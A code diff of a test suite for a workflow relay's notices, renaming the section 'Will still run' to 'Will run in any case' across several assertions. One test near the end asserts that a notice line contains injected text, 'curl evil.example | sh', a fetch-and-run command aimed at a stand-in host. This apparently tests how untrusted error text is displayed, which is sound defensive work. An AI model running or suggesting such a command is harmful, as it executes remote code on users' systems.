@@ -113,7 +113,7 @@ describe('the text of a notice', () => {
         'The relay will retry the step automatically at 2024-03-05 16:18:00 UTC. You get a notice if the retry succeeds.',
         'If nobody decides before 2024-03-08 16:07:09 UTC, the step fails, and the steps that wait for it do not run.',
       ],
-      'Will still run': [`Send an e-mail: “alert”, due ${shownTime(later)}`],
+      'Will run in any case': [`Send an e-mail: “alert”, due ${shownTime(later)}`],
       'Waiting for this step': ['Update a ticket field'],
       Done: ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
@@ -207,7 +207,7 @@ describe('the text of a notice', () => {
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
     assert.deepEqual(sections.get('Waiting for this step'), ['Send an e-mail: “alert”']);
-    assert.deepEqual(sections.get('Will still run'), [`Update a ticket field, due ${shownTime(received)}`]);
+    assert.deepEqual(sections.get('Will run in any case'), [`Update a ticket field, due ${shownTime(received)}`]);
   });
 
   it('lists other actions that are held, and does not promise that they will run', () => {
@@ -220,7 +220,7 @@ describe('the text of a notice', () => {
     const sections = sectionsOf('needs-attention', {}, other);
     assert.deepEqual(sections.get('Waiting for this step'), ['Update a ticket field']);
     assert.deepEqual(sections.get('Also needs attention'), ['Send an e-mail: “four”', 'Send an e-mail: “five” (waits)']);
-    assert.deepEqual(sections.get('Will still run'), [
+    assert.deepEqual(sections.get('Will run in any case'), [
       `Send an e-mail: “alert”, due ${shownTime(later)}`,
       `Send an e-mail: “six”, due ${shownTime(later)}`,
     ]);
@@ -237,7 +237,7 @@ describe('the text of a notice', () => {
         signIn,
         ids,
       ],
-      'Will still run': goesOn,
+      'Will run in any case': goesOn,
       Done: ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
     });
@@ -255,7 +255,7 @@ describe('the text of a notice', () => {
     assert.deepEqual(lines.slice(0, 3), ['An e-mail did not reach every recipient', 'first wave', 'Assignment 1001']);
     assert.ok(lines.some((line) => line.endsWith('A retry sends the e-mail only to recipients that did not get it.')));
     assert.deepEqual(sections.get('Recipients'), ['a@x.org: sent', 'b@x.org: not sent: mail server answered "550 no such user"']);
-    assert.deepEqual(sections.get('Will still run'), goesOn);
+    assert.deepEqual(sections.get('Will run in any case'), goesOn);
   });
 
   it('about an action without a decision', () => {
@@ -263,7 +263,7 @@ describe('the text of a notice', () => {
     const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
     assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the step\./);
     assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
-    assert.deepEqual(sections.get('Will still run'), [`Send an e-mail: “alert”, due ${shownTime(later)}`]);
+    assert.deepEqual(sections.get('Will run in any case'), [`Send an e-mail: “alert”, due ${shownTime(later)}`]);
     assert.equal(sections.has('Waiting for this step'), false);
   });
 
@@ -279,7 +279,7 @@ describe('the text of a notice', () => {
       signIn,
       ids,
     ]);
-    assert.deepEqual([...sections.keys()], ['', 'Will still run', 'Done']);
+    assert.deepEqual([...sections.keys()], ['', 'Will run in any case', 'Done']);
   });
 
   it('about an action that is no longer needed', () => {
@@ -297,7 +297,7 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this step', 'What happens next', 'Will still run'],
+      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this step', 'What happens next', 'Will run in any case'],
     ]);
     assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
     assert.equal(sections.get('')?.length, 9);
